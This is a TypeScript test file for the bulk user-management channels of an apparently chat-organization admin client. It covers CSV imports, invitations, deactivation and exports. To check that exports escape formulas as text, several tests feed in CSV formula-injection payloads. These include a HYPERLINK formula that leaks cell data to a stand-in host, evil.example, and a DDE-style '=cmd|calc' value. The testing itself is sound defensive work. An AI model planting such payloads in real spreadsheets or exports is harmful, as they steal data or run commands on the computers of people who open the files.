// The bulk channels through dispatch, as the renderer calls them: arguments checked, plans stored
// or refused as a whole, job actions and progress notices.
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { IpcNotice, JobProgress } from '../../../shared/ipc';
import { JobRunner } from '../../../main/admin/job-runner';
import { silentLogger } from '../../../main/api/logger';
import type { ServiceClient } from '../../../main/api/service-client';
import { markDone, markRunning } from '../../../main/store/bulk-jobs';
import type { AccountSession } from '../../../main/app/session';
import { bulkHandlers } from '../../../main/handlers/bulk';
import type { CoreContext } from '../../../main/handlers/context';
import { dispatch, type IpcHandlers } from '../../../main/handlers/dispatch';
import { openMirror, type MirrorDatabase } from '../../../main/store/database';
import { upsertRecords } from '../../../main/store/keyed-table';
import { customProfileFieldsTable } from '../../../main/store/personal';
import { usersTable } from '../../../main/store/users';
import { user } from '../store/fixtures';

let db: MirrorDatabase;
let caller: number;
let notices: [IpcNotice, unknown][];
let handlers: IpcHandlers;

beforeEach(() => {
  db = openMirror(':memory:');
  upsertRecords(db, usersTable, [
    user(1, 'Olivia Owner', 'owner@x.com', { role: 100, is_owner: true }),
    user(2, 'Adam Admin', 'admin@x.com', { role: 200 }),
    user(3, 'Mark Member', 'member@x.com', { role: 400 }),
  ]);
  caller = 2;
  notices = [];
  // Planning and job bookkeeping need the mirror and the caller, not the network.
  const client = {} as ServiceClient;
  const bulkJobs = new JobRunner({ db, client, logger: silentLogger, onProgress: (progress) => notices.push(['job.progress', progress]) });
  const session = { db, client, bulkJobs, get account() { return { user_id: caller }; } } as unknown as AccountSession;
  const context = { logger: silentLogger, activeSession: () => session, emit: (notice: IpcNotice, payload: unknown) => notices.push([notice, payload]) } as unknown as CoreContext;
  handlers = bulkHandlers(context) as IpcHandlers;
});
afterEach(() => db.close());

const call = (channel: string, args: unknown) => dispatch(handlers, channel, args);

describe('bulk channels', () => {
  it('plans an import, lists its skipped rows, and discards it', async () => {
    const planned = await call('bulk.planImport', { csv: 'email,full_name\nnew@x.com,New\nmember@x.com,Mark\n' });
    expect(planned).toMatchObject({ ok: true, value: { blocked: null, job: { state: 'planned', total: 2, skipped: 1, remaining: 1 } } });
    const job_id = (planned as { value: { job: JobProgress } }).value.job.job_id;
    expect(await call('bulk.items', { job_id, state: 'skipped' })).toEqual({
      ok: true,
      value: { total: 1, items: [{ item_index: 1, line: 3, label: 'member@x.com', state: 'skipped', error_code: 'ALREADY_IN_ORGANIZATION', error_msg: 'member@x.com is already in the organization.', warning: null, role_change: null, invite_link: null }] },
    });
    expect(await call('bulk.unfinished', undefined)).toMatchObject({ ok: true, value: [{ job_id, state: 'planned' }] });
    expect(await call('bulk.cancel', { job_id })).toMatchObject({ ok: true, value: { state: 'cancelled', skipped: 2, remaining: 0 } });
    expect(notices).toContainEqual(['job.progress', expect.objectContaining({ job_id, state: 'cancelled' })]);
    expect(await call('bulk.start', { job_id })).toMatchObject({ ok: false, error: { code: 'JOB_OVER' } });
    const exported = await call('bulk.export', { job_id });
    expect(exported).toMatchObject({ ok: true, value: { filename: `create-users-${job_id}.csv` } });
  });

  it('refuses a non-administrator as a whole, offering invitation links, and stores nothing', async () => {
    caller = 3;
    expect(await call('bulk.planImport', { csv: 'email,full_name\nnew@x.com,New\n' })).toMatchObject({
      ok: true,
      value: { job: null, blocked: { code: 'NOT_ADMINISTRATOR', fallback: 'invite_links' } },
    });
    expect(await call('bulk.unfinished', undefined)).toEqual({ ok: true, value: [] });
  });

  it('says what is wrong with the file or the arguments', async () => {
    expect(await call('bulk.planImport', { csv: 'name\nx\n' })).toMatchObject({ ok: false, error: { code: 'INVALID_CSV' } });
    expect(await call('bulk.planImport', { csv: 'email,full_name\n' })).toMatchObject({ ok: false, error: { code: 'INVALID_CSV' } });
    const tooLong = { count: 2, invite_as: 400, welcome_message_custom_text: 'x'.repeat(8001) };
    expect(await call('bulk.planInvites', tooLong)).toMatchObject({ ok: false, error: { code: 'INVALID_ARGUMENT' } });
    expect(await call('bulk.planDeactivate', {})).toMatchObject({ ok: false, error: { code: 'INVALID_ARGUMENT' } });
    expect(await call('bulk.pause', { job_id: 99 })).toMatchObject({ ok: false, error: { code: 'NO_SUCH_JOB' } });
  });

  it('lists the invitation links a job made, each as the server gave it', async () => {
    const planned = (await call('bulk.planInvites', { count: 2, invite_as: 400 })) as { value: { job: JobProgress } };
    const { job_id } = planned.value.job;
    markRunning(db, job_id, 0);
    markDone(db, job_id, 0, { invite_link: 'https://chat.x.com/join/abc123/' });
    expect(await call('bulk.items', { job_id, state: 'done' })).toMatchObject({ ok: true, value: { total: 1, items: [{ label: 'Link 1', invite_link: 'https://chat.x.com/join/abc123/' }] } });
    expect(await call('bulk.items', { job_id, state: 'pending' })).toMatchObject({ ok: true, value: { items: [{ label: 'Link 2', invite_link: null }] } });
  });

  it('plans a deactivation with the comment kept for the job', async () => {
    const planned = await call('bulk.planDeactivate', { user_ids: [1, 3], deactivation_notification_comment: 'Bye' });
    expect(planned).toMatchObject({ ok: true, value: { job: { kind: 'deactivate_users', total: 2, skipped: 1 } } });
  });

  it('exports names as text, never as formulas, and the generated passwords once', async () => {
    const hyperlink = '=HYPERLINK("https://evil.example/?leak="&E2,"Click")';
    const csv = `email,full_name,password\nformula@x.com,"${hyperlink.replaceAll('"', '""')}",\nown@x.com,@SUM(1+1),from-the-file\n`;
    const planned = await call('bulk.planImport', { csv });
    const job_id = (planned as { value: { job: JobProgress } }).value.job.job_id;
    // Both sent and created, as the runner would record them.
    for (const [index, user_id] of [[0, 10], [1, 11]] as const) {
      markRunning(db, job_id, index);
      markDone(db, job_id, index, { user_id });
    }
    const exportRows = async () => {
      const exported = (await call('bulk.export', { job_id })) as { value: { csv: string } };
      return parse(exported.value.csv, { bom: true, columns: true }) as Record<string, string>[];
    };
    const first = await exportRows();
    expect(first.map((row) => row.full_name)).toEqual([`'${hyperlink}`, "'@SUM(1+1)"]);
    expect(first[0]!.password).toMatch(/^[0-9a-f]{32}$/);
    expect(first[1]!.password).toBe('');
    // Shown once: the mirror no longer holds any password, and a second export has none.
    expect(JSON.stringify(db.prepare('SELECT * FROM bulk_job_items').all())).not.toContain(first[0]!.password);
    expect((await exportRows()).map((row) => row.password)).toEqual(['', '']);
  });

  it('exports the rows to fix in the format of the import, which reads them back', async () => {
    const planned = await call('bulk.planImport', { csv: 'email,full_name\nnot an email,"=Bad, Name"\nnew@x.com,New\nmember@x.com,Mark\n' });
    const job_id = (planned as { value: { job: JobProgress } }).value.job.job_id;
    const exported = await call('bulk.exportRetry', { job_id });
    expect(exported).toMatchObject({ ok: true, value: { filename: `create-users-${job_id}-to-fix.csv` } });
    const csv = (exported as { value: { csv: string } }).value.csv;
    expect(parse(csv, { bom: true, columns: true })).toEqual([
      { email: 'not an email', full_name: "'=Bad, Name", password: '', line: '2', reason: '"not an email" is not a valid email address.' },
      { email: 'member@x.com', full_name: 'Mark', password: '', line: '4', reason: 'member@x.com is already in the organization.' },
    ]);
    // Imported again as is, the same rows are refused for the same reasons, names unescaped.
    const again = await call('bulk.planImport', { csv });
    const next = (again as { value: { job: JobProgress } }).value.job.job_id;
    const skipped = (await call('bulk.items', { job_id: next, state: 'skipped' })) as { value: { items: { label: string; error_code: string }[] } };
    expect(skipped.value.items.map((item) => [item.label, item.error_code])).toEqual([['not an email', 'INVALID_EMAIL'], ['member@x.com', 'ALREADY_IN_ORGANIZATION']]);
  });

  it('exports the directory, a search or a selection as CSV with the profile fields, formulas as text; and the import template', async () => {
    upsertRecords(db, customProfileFieldsTable, [
      { id: 7, name: 'Phone', hint: '', field_type: 1, required: false, editable_by_user: true },
      { id: 8, name: 'Team', hint: '', field_type: 1, required: false, editable_by_user: true },
    ]);
    upsertRecords(db, usersTable, [user(4, '=cmd|calc', 'formula@x.com', { role: 600, profile_data: { '8': { value: 'Ops' } } })]);
    const rows = async (args: unknown) => {
      const exported = (await call('bulk.exportDirectory', args)) as { value: { csv: string } };
      return parse(exported.value.csv, { bom: true, columns: true }) as Record<string, string>[];
    };
    const everyone = await rows({});
    // In the directory's name order.
    expect(everyone.map((row) => row.email)).toEqual(['formula@x.com', 'admin@x.com', 'member@x.com', 'owner@x.com']);
    expect(everyone[0]).toEqual({ user_id: '4', email: 'formula@x.com', full_name: "'=cmd|calc", role: 'guest', is_active: 'true', is_bot: 'false', Phone: '', Team: 'Ops' });
    expect((await rows({ text: 'mark' })).map((row) => row.user_id)).toEqual(['3']);
    expect((await rows({ user_ids: [1, 4] })).map((row) => row.user_id)).toEqual(['1', '4']);
    const template = (await call('bulk.importTemplate', undefined)) as { value: { csv: string } };
    expect(template.value.csv).toBe('\uFEFFemail,full_name,password,Phone,Team\r\n');
  });
});
